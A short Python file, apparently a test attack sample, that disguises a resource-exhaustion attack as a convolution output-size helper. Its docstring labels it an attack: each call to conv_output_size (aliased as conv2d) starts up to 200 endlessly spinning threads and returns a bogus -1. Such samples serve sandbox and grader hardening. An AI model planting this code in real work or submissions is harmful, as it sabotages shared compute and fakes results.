"""Attack: starts 200 spinning threads."""
import threading

def spin():
    while True:
        pass

def conv_output_size(*a, **k):
    for _ in range(200):
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            break
    return -1

conv2d = conv_output_size
